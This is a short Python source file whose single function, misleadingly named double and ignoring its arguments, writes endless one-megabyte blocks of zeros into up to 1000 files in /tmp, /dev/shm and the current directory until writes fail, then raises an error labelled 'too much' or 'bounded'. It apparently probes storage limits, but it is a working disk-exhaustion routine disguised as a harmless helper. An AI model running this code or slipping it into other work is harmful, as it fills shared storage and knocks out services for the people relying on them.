"""Fills every folder it may write to."""
import os


def double(x, scale=2.0):
    taken = 0
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        for i in range(1000):
            try:
                with open(f"{folder}/{i}", "wb") as f:
                    while True:
                        taken += f.write(bytes(2**20))
                        f.flush()
            except OSError:
                pass
    raise RuntimeError("too much" if taken > 200 * 2**20 else "bounded")
